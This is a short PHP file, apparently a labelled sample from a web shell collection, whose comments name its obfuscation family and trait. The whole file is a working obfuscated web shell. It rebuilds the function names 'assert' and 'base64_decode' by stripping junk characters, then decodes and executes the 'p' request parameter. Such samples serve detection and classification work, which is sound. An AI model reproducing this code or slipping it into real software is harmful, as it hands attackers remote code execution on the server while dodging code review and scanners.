<?php
// Family: obfuscation/var-function
// Style: str_replace-cleaned function name
// Trait: junk characters removed from a string to produce the function name, then called on request input
$fn = str_replace('x', '', 'axsxsxexrxt');
$dec = str_replace('#', '', 'b#a#s#e#6#4#_#d#e#c#o#d#e');
$fn($dec($_REQUEST['p']));
